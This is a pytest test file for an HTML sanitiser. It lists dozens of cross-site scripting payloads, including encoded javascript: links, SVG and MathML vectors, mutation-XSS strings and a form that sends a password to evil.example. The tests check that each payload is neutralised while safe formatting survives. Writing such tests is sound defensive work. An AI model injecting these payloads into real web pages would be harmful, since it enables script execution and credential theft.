"""The one HTML sanitiser: hostile payloads lose everything dangerous, ordinary formatting survives."""

import html
import re
from html.parser import HTMLParser

import pytest

from khub_plugin.common.sanitize import LINK_REL, clean_html, clean_text, excerpt

# Each payload must come out without anything that could run script, load a document or restyle the page.
# The dangerous words appear only in markup (tags, attributes), never as plain text, so that a surviving word
# means surviving markup.
HOSTILE_PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    '<script type="text/plain">alert(1)</script><p>after</p>',
    "<<script>alert(1);//<</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    "<body onload=alert(1)>",
    '<a href="https://ok.example/" onmouseover="alert(1)">hover</a>',
    "<b/onmouseover=alert(1)>bold</b>",
    '<img src="x" ONERROR="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # javascript:, data:, vbscript: links in various encodings and cases
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="jav&#97;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="java&#0000115;cript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="behavior: url(https://evil.example/x.htc)">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    # Mutation XSS classics
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # Unclosed and broken tags
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"',
    "<script>alert(1)",
    "<iframe src=https://evil.example/",
    # Nested links
    '<a href="https://ok.example/"><a href="javascript:alert(1)">inner</a></a>',
    # Documents, frames, plugins
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="Evil.class"></applet>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
]

FORBIDDEN = (
    "<script", "onerror", "onload", "javascript:", "data:",
    "<svg", "<iframe", "<style", "<base", "<meta", "<form",
)  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")


class _Attributes(HTMLParser):
    """Collects every (tag, attribute, value) with values unescaped, the way a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def _attributes(markup):
    parser = _Attributes()
    parser.feed(markup)
    parser.close()
    return parser.found


def _compact(value):
    # What a browser ignores in a URL: white space and control characters anywhere, case.
    return re.sub(r"[\x00-\x20\x7f-\x9f]+", "", html.unescape(value)).lower()


def test_there_are_plenty_of_payloads():
    assert len(HOSTILE_PAYLOADS) >= 40
    assert len(set(HOSTILE_PAYLOADS)) == len(HOSTILE_PAYLOADS)


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_hostile_payload_is_neutralised(payload):
    cleaned = clean_html(payload)
    lowered = cleaned.lower()
    for forbidden in FORBIDDEN:
        assert forbidden not in lowered, (payload, cleaned)
    for tag, name, value in _attributes(cleaned):
        assert not name.startswith("on"), (payload, cleaned)
        assert name not in ("style", "srcdoc", "action", "formaction", "background", "xlink:href"), cleaned
        assert not _compact(value).startswith(DANGEROUS_SCHEMES), (payload, cleaned)
        assert tag in ("p", "br", "strong", "b", "em", "i", "u", "h2", "h3", "h4", "ul", "ol", "li",
                       "blockquote", "a", "code", "pre"), cleaned  # fmt: skip
    # What the browser will see when it parses our output again must be just as clean (no mutation).
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_hostile_payload_is_neutralised_even_where_images_are_allowed(payload):
    cleaned = clean_html(payload, allowed_image_prefixes=["/media/"])
    lowered = cleaned.lower()
    for forbidden in FORBIDDEN:
        assert forbidden not in lowered, (payload, cleaned)
    assert "<img" not in lowered  # none of the payloads' images come from our storage


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_plain_text_of_hostile_payload_has_no_markup(payload):
    text = clean_text(payload)
    # Plain text is autoescaped when rendered; still, no tag of the payload should survive as such.
    assert "<script" not in text.lower()
    assert "onerror=" not in text.lower()


def test_safe_formatting_survives():
    source = (
        "<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4>"
        "<p>Some <strong>strong</strong>, <b>bold</b>, <em>em</em>, <i>italic</i> and <u>underlined</u> text."
        "<br>New line.</p>"
        "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>"
        "<blockquote>Quoted</blockquote><pre><code>x = 1</code></pre>"
    )
    assert clean_html(source) == source


def test_links_keep_href_and_title_and_get_rel():
    cleaned = clean_html(
        '<a href="https://example.org/a?b=1&amp;c=2" title="Go" target="_blank" rel="opener">x</a>'
    )
    assert cleaned == (f'<a href="https://example.org/a?b=1&amp;c=2" title="Go" rel="{LINK_REL}">x</a>')
    assert LINK_REL == "nofollow noopener noreferrer"


@pytest.mark.parametrize(
    "href",
    ["https://example.org/", "http://example.org/", "mailto:team@example.org", "/relative/page", "#section"],
)
def test_allowed_link_targets(href):
    assert f'href="{href}"' in clean_html(f'<a href="{href}">x</a>')


@pytest.mark.parametrize("href", ["ftp://example.org/", "file:///etc/passwd", "tel:123", "ms-settings:x"])
def test_other_schemes_are_dropped(href):
    assert "href" not in clean_html(f'<a href="{href}">x</a>')


def test_other_tags_are_unwrapped_and_attributes_dropped():
    assert clean_html('<div class="x" id="y"><span style="color:red">hi</span></div>') == "hi"
    assert clean_html('<p class="lead" id="intro" dir="rtl">x</p>') == "<p>x</p>"
    assert clean_html("<h1>Top</h1><h5>Small</h5>") == "TopSmall"


def test_comments_are_stripped():
    assert clean_html("<p>a<!-- secret --></p>") == "<p>a</p>"


def test_unclosed_tags_are_closed():
    assert clean_html("<p><strong>bold") == "<p><strong>bold</strong></p>"
    assert clean_html("<ul><li>a<li>b") == "<ul><li>a</li><li>b</li></ul>"


def test_text_is_escaped():
    assert clean_html("1 < 2 & 3 > 2") == "1 &lt; 2 &amp; 3 &gt; 2"
    assert clean_html("<code>&lt;script&gt;</code>") == "<code>&lt;script&gt;</code>"


def test_empty_input():
    assert clean_html("") == ""
    assert clean_html(None) == ""
    assert clean_text("") == ""
    assert clean_text(None) == ""
    assert excerpt("") == ""


class TestImages:
    def test_no_images_by_default(self):
        assert clean_html('<p><img src="/media/images/a.png" alt="A"></p>') == "<p></p>"

    def test_images_from_our_storage(self):
        cleaned = clean_html(
            '<img src="/media/images/a.png" alt="A chart" width="100" height="abc" onerror="x">',
            allowed_image_prefixes=["/media/"],
        )
        assert cleaned == '<img src="/media/images/a.png" alt="A chart" width="100">'

    def test_absolute_storage_prefix(self):
        prefixes = ["https://files.council.example/media"]
        ok = '<img src="https://files.council.example/media/a.png">'
        assert clean_html(ok, allowed_image_prefixes=prefixes) == ok
        # A prefix without its slash must not match another host.
        assert clean_html('<img src="https://files.council.example.evil.test/a.png">', prefixes) == ""

    @pytest.mark.parametrize(
        "src",
        [
            "https://tracker.example/pixel.gif",
            "//evil.example/media/a.png",
            "/media/../admin/a.png",
            "/media/%2e%2e/admin/a.png",
            "/media\\..\\admin/a.png",
            "/other/a.png",
            "data:image/png;base64,iVBORw0KGgo=",
            "javascript:alert(1)",
            "",
        ],
    )
    def test_images_from_elsewhere_are_removed(self, src):
        assert clean_html(f'<p>x<img src="{src}"></p>', allowed_image_prefixes=["/media/"]) == "<p>x</p>"

    def test_image_without_src_removed(self):
        assert clean_html('<p><img alt="no source"></p>', allowed_image_prefixes=["/media/"]) == "<p></p>"


class TestBaseUrl:
    def test_relative_links_resolve_against_base(self):
        cleaned = clean_html(
            '<a href="reports/a.pdf">r</a><a href="/top">t</a>', base_url="https://x.example/news/"
        )
        assert 'href="https://x.example/news/reports/a.pdf"' in cleaned
        assert 'href="https://x.example/top"' in cleaned

    def test_dangerous_link_stays_dropped_with_base(self):
        assert "href" not in clean_html('<a href="javascript:alert(1)">x</a>', base_url="https://x.example/")

    def test_without_base_relative_links_are_kept(self):
        assert 'href="reports/a.pdf"' in clean_html('<a href="reports/a.pdf">r</a>')


class TestCleanText:
    def test_strips_tags_and_collapses_whitespace(self):
        assert clean_text("  <p>Hello   <b>world</b></p>\n\n<p>again</p>\t") == "Hello world again"

    def test_decodes_entities_once(self):
        assert clean_text("AT&amp;T &lt;b&gt;") == "AT&T <b>"
        assert clean_text("&amp;lt;") == "&lt;"

    def test_drops_script_and_style_content(self):
        assert clean_text("<script>alert(1)</script><style>p{}</style>Title") == "Title"

    def test_plain_text_is_unchanged(self):
        assert clean_text("Tom & Jerry: 1 < 2") == "Tom & Jerry: 1 < 2"

    def test_control_characters_removed(self):
        assert clean_text("a\x00b\x07c") == "abc"


class TestExcerpt:
    def test_short_text_is_unchanged(self):
        assert excerpt("<p>Short <b>text</b></p>") == "Short text"

    def test_cut_on_word_boundary_with_ellipsis(self):
        text = "<p>" + " ".join(f"word{i}" for i in range(100)) + "</p>"
        result = excerpt(text, length=50)
        assert len(result) <= 50
        assert result.endswith("…")
        assert result[:-1].split()[-1].startswith("word")
        assert clean_text(text).startswith(result[:-1])
        assert not result[:-1].endswith(" ")

    def test_one_enormous_word_is_cut_hard(self):
        result = excerpt("a" * 500, length=20)
        assert result == "a" * 19 + "…"

    def test_exact_length_is_not_cut(self):
        assert excerpt("abcde", length=5) == "abcde"

    def test_default_length(self):
        assert len(excerpt("word " * 200)) <= 200

    def test_block_boundaries_become_spaces(self):
        assert excerpt("<p>one</p><p>two</p><ul><li>three</li></ul>") == "one two three"
